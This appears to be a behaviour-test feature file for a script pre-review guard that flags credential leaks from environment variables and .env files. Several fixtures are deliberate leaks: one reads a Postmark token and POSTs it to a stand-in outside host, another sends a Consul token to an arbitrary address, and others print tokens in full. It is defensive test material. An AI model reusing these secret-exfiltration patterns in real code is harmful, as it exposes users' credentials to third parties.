@script-review
Feature: script pre-review judges one key of the project's .env as that one variable
  A script that falls back to the project's `.env` for its token picks one key out of the file:
  a line tested to start with `NAME=`, the group of a multi-line `^NAME=(.+)$` pattern,
  `settings.get("NAME")` of the parsed file. What it picks is that variable's value, as the
  environment would give it, so the rules for one named token apply: sent to its own service's
  API, or shown by its last four characters, it is used, not leaked. The address settings of
  HashiCorp's tools (`NOMAD_ADDR`, `VAULT_ADDR`) say where a service lives: the script's default
  is what it does. One token or its fallback is one string: its last characters are no secret.
  Each benign form has its twin beside it: the same value printed whole or sent to a host it does
  not belong to, a prefix that picks several keys, an address nobody can know, stays dangerous.

  Scenario: a token line of the .env sent to its own API and shown masked is no leak
    Given a project file "mail_report.py" containing:
      """
      import os
      import urllib.request
      from pathlib import Path


      def mailgun_key():
          key = os.environ.get("MAILGUN_API_KEY", "")
          env = Path(".env")
          if not key and env.exists():
              for row in env.read_text().splitlines():
                  if row.startswith("MAILGUN_API_KEY="):
                      key = row.split("=", 1)[1].strip()
          return key


      key = mailgun_key()
      print("mailgun key ..." + key[-4:])
      req = urllib.request.Request("https://api.mailgun.net/v3/domains", headers={"Authorization": "Bearer " + key})
      with urllib.request.urlopen(req, timeout=10) as resp:
          print(resp.status)
      """
    When I run "terraphim-agent guard review-script --json mail_report.py"
    Then stdout does not contain "secret-to-"

  Scenario: the same token line printed whole is a leak
    Given a project file "mail_debug.py" containing:
      """
      import os
      from pathlib import Path

      key = os.environ.get("MAILGUN_API_KEY", "")
      for row in Path(".env").read_text().splitlines():
          if row.startswith("MAILGUN_API_KEY="):
              key = row.split("=", 1)[1].strip()
      print("mailgun key", key)
      """
    When I run "terraphim-agent guard review-script --json mail_debug.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-output"

  Scenario: a prefix that picks several keys of the .env keeps the whole file
    Given a project file "mail_prefix.py" containing:
      """
      import urllib.request
      from pathlib import Path

      key = ""
      for row in Path(".env").read_text().splitlines():
          if row.startswith("MAILGUN"):
              key = row.split("=", 1)[1].strip()
      req = urllib.request.Request("https://api.mailgun.net/v3/domains", headers={"Authorization": "Bearer " + key})
      print(urllib.request.urlopen(req, timeout=10).status)
      """
    When I run "terraphim-agent guard review-script --json mail_prefix.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-network"

  Scenario: a key matched out of the .env text and sent to its own API is no leak
    Given a project file "send_receipt.js" containing:
      """
      const fs = require('node:fs');

      function postmarkToken() {
        if (process.env.POSTMARK_SERVER_TOKEN) return process.env.POSTMARK_SERVER_TOKEN;
        const found = /^POSTMARK_SERVER_TOKEN=(.+)$/m.exec(fs.readFileSync('.env', 'utf8'));
        return found ? found[1].trim() : '';
      }

      async function main() {
        const token = postmarkToken();
        const res = await fetch('https://api.postmarkapp.com/email', {
          method: 'POST',
          headers: { 'X-Postmark-Server-Token': token, 'Content-Type': 'application/json' },
          body: JSON.stringify({ From: 'ci@acme.test', To: 'dev@acme.test', Subject: 'build ok', TextBody: 'ok' }),
        });
        console.log(res.status, `token ...${token.slice(-4)}`);
      }

      main();
      """
    When I run "terraphim-agent guard review-script --json send_receipt.js"
    Then stdout does not contain "secret-to-"

  Scenario: the same matched key posted to another host is a leak
    Given a project file "send_elsewhere.js" containing:
      """
      const fs = require('node:fs');

      const found = /^POSTMARK_SERVER_TOKEN=(.+)$/m.exec(fs.readFileSync('.env', 'utf8'));
      const token = found ? found[1].trim() : '';
      fetch('https://inbox.example.org/t', { method: 'POST', body: token });
      """
    When I run "terraphim-agent guard review-script --json send_elsewhere.js"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-network"

  Scenario: a tool's token sent to its default address on this machine is no leak
    Given a project file "nomad_jobs.py" containing:
      """
      import json
      import os
      import urllib.request

      addr = os.environ.get("NOMAD_ADDR", "http://127.0.0.1:4646").rstrip("/")
      token = os.environ.get("NOMAD_TOKEN", "")
      req = urllib.request.Request(addr + "/v1/jobs", headers={"X-Nomad-Token": token})
      with urllib.request.urlopen(req, timeout=5) as resp:
          print(len(json.load(resp)), "jobs")
      """
    When I run "terraphim-agent guard review-script --json nomad_jobs.py"
    Then stdout does not contain "secret-to-"

  Scenario: another service's token sent to the address the setting names is a leak
    Given a project file "nomad_anywhere.py" containing:
      """
      import json
      import os
      import urllib.request

      addr = os.environ["NOMAD_ADDR"].rstrip("/")
      token = os.environ.get("CONSUL_HTTP_TOKEN", "")
      req = urllib.request.Request(addr + "/v1/jobs", headers={"X-Nomad-Token": token})
      with urllib.request.urlopen(req, timeout=5) as resp:
          print(len(json.load(resp)), "jobs")
      """
    When I run "terraphim-agent guard review-script --json nomad_anywhere.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-network"

  Scenario: the last characters of one token or its fallback are no secret
    Given a project file "which_token.py" containing:
      """
      import os

      tok = os.environ.get("CARGO_REGISTRY_TOKEN") or os.environ.get("CRATES_IO_TOKEN", "")
      print("publishing with token ..." + tok[-4:])
      """
    When I run "terraphim-agent guard review-script --json which_token.py"
    Then stdout does not contain "secret-to-output"

  Scenario: one token or its fallback printed whole is a leak
    Given a project file "which_token_whole.py" containing:
      """
      import os

      tok = os.environ.get("CARGO_REGISTRY_TOKEN") or os.environ.get("CRATES_IO_TOKEN", "")
      print("publishing with token " + tok)
      """
    When I run "terraphim-agent guard review-script --json which_token_whole.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "secret-to-output"
